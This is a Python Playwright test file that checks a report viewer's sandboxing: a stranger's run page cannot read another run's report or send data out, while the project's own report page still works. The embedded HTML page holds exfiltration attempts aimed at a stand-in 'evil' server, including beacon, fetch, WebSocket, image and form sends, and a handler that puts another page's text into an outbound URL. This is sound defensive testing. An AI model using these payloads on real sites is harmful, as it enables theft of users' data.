"""The page of a stranger's run reads no other run and sends nothing out; our own page still does all it does. Slow."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from browsers import chromium
from playwright.sync_api import Browser, expect
from small_server import Asked, answering

from contrapose.flows.serve.report_server import make_report_site, serve_site
from contrapose.flows.serve.view.site import Viewer

pytestmark = [pytest.mark.slow, pytest.mark.timeout(600)]

SECRET, STRANGE = "20260301T083000Z-secret", "20260302T083000Z-strange"
PAGE = """<!doctype html><title>strange</title><body><button id="click">Show all</button>
<a id="link" href="{other}" target="_blank">Compare</a><a id="out" href="{evil}/?by=link" target="_blank">More</a>
<form id="form" action="{evil}/form" target="_blank"><input name="by"></form><script>
const told = {{}};
async function attempt(name, what) {{
  try {{ told[name] = String(await what()); }} catch (error) {{ told[name] = "refused"; }}
}}
const read = (handle) => handle.document.body.innerText;
const later = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
async function attack() {{
  await attempt("fetch", async () => (await fetch("{other}")).text());
  await attempt("fetch with cookie", async () => (await fetch("{other}", {{ credentials: "include" }})).text());
  await attempt("list", async () => (await fetch("/")).text());
  await attempt("request", () => new Promise((resolve, reject) => {{
    const request = new XMLHttpRequest(); request.open("GET", "{other}");
    request.onload = () => resolve(request.responseText); request.onerror = reject; request.send();
  }}));
  await attempt("window", async () => {{
    const opened = window.open("{other}"); await later(500); return read(opened);
  }});
  await attempt("frame", async () => {{
    const frame = document.createElement("iframe"); frame.src = "{other}"; document.body.append(frame);
    await later(500); return read(frame.contentWindow);
  }});
  await attempt("cookie", () => document.cookie || Promise.reject());
  await attempt("storage", () => {{ localStorage.setItem("a", "kept"); return localStorage.getItem("a"); }});
  await attempt("origin", () => window.origin === "null" ? Promise.reject() : window.origin);
  await attempt("picture", () => new Promise((resolve, reject) => {{
    const image = new Image(); image.onload = resolve; image.onerror = reject; image.src = "{evil}/picture";
  }}));
  await attempt("send", async () => {{ await fetch("{evil}/fetch", {{ mode: "no-cors" }}); return "sent"; }});
  navigator.sendBeacon("{evil}/beacon");
  await attempt("socket", () => new Promise((resolve, reject) => {{
    const socket = new WebSocket("{evil}/socket".replace("http", "ws"));
    socket.onopen = resolve; socket.onerror = reject;
  }}));
  await attempt("popup", () => window.open("{evil}/popup") ? "opened" : Promise.reject());
  document.getElementById("form").submit();
  document.getElementById("out").click();
  document.getElementById("link").click();
  return told;
}}
document.getElementById("click").addEventListener("click", () => {{
  const opened = window.open("{other}");
  setTimeout(() => {{ try {{ window.open("{evil}/?" + read(opened)); }} catch (error) {{ }} }}, 500);
}});
</script></body>"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium(whole=True) as opened:
        yield opened


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder of a run of our own."""
    folder = tmp_path_factory.mktemp("own")
    words = ["run", "--model", "mock", "--test", "add_negation", "--limit", "30", "--exit-zero", "--quiet"]
    subprocess.run([sys.executable, "-m", "contrapose.flows.cli", *words], cwd=folder, check=True, capture_output=True)
    return next(path for path in (folder / "runs").iterdir() if not path.name.startswith("."))


def site(runs: Path, kind: str) -> Any:
    """The site of `contrapose view`, or of the reports behind `contrapose ui`, and where a run's page is in it."""
    if kind == "view":
        return Viewer(root=runs.resolve(), history=str(runs / "history")), "/files"
    return make_report_site(runs), ""


@pytest.mark.parametrize("kind", ["view", "reports"])
def test_the_page_of_one_run_reads_nothing_of_another_and_sends_nothing_out(
    kind: str, browser: Browser, tmp_path: Path
) -> None:
    heard: list[str] = []
    viewer, below = site(tmp_path, kind)

    def listen(asked: Asked) -> None:
        """As a server of somebody else's that writes down what it is asked."""
        heard.append(asked.path)
        asked.reply()

    with answering(listen) as evil, serve_site(viewer) as served:
        for name, text in {SECRET: "secret", STRANGE: PAGE}.items():
            (tmp_path / name).mkdir()
            filled = text.format(evil=evil, other=f"{below}/{SECRET}/report.html") if name == STRANGE else text
            (tmp_path / name / "report.html").write_text(filled)
        context = browser.new_context()
        page = context.new_page()
        page.goto(served.link(f"{below}/{STRANGE}/report.html"))
        told = page.evaluate("attack()")
        assert told == dict.fromkeys(told, "refused")
        assert len(told) == 13
        page.get_by_role("button", name="Show all").click()
        page.wait_for_timeout(1500)
        assert heard == []
        assert [opened for opened in context.pages if opened != page] == []
        # The person at the browser still reads both.
        page.goto(f"{served.url}{below}/{SECRET}/report.html")
        assert page.locator("body").inner_text() == "secret"
        context.close()


@pytest.mark.parametrize("kind", ["view", "reports"])
def test_our_own_page_still_filters_copies_saves_and_leads_to_the_checks(
    kind: str, browser: Browser, run: Path
) -> None:
    viewer, below = site(run.parent, kind)
    said: list[str] = []
    with serve_site(viewer) as served:
        context = browser.new_context(accept_downloads=True)
        page = context.new_page()
        page.on("console", lambda message: said.append(message.text))
        page.on("pageerror", lambda error: said.append(str(error)))
        page.goto(served.link(f"{below}/{run.name}/report.html"))
        page.wait_for_selector("html.loaded", state="attached")
        page.get_by_role("link", name="Samples of this test").first.click()
        assert "#samples" in page.url
        page.reload()
        page.wait_for_selector("html.loaded", state="attached")
        for name, kept in {"Save as SVG": "contrapose.svg", "Save as picture": "contrapose.png"}.items():
            with page.expect_download() as download:
                page.get_by_role("button", name=name).click()
            assert download.value.suggested_filename == kept
            assert Path(download.value.path()).stat().st_size > 1000
        page.get_by_role("button", name="Copy as Markdown").first.click()
        expect(page.get_by_role("button", name="Copied")).to_be_visible()
        page.get_by_role("link", name="Data checks").click()
        expect(page.locator("h1")).to_contain_text("expectations hold")
        assert page.url.endswith("/validation.html")
        context.close()
    assert said == []
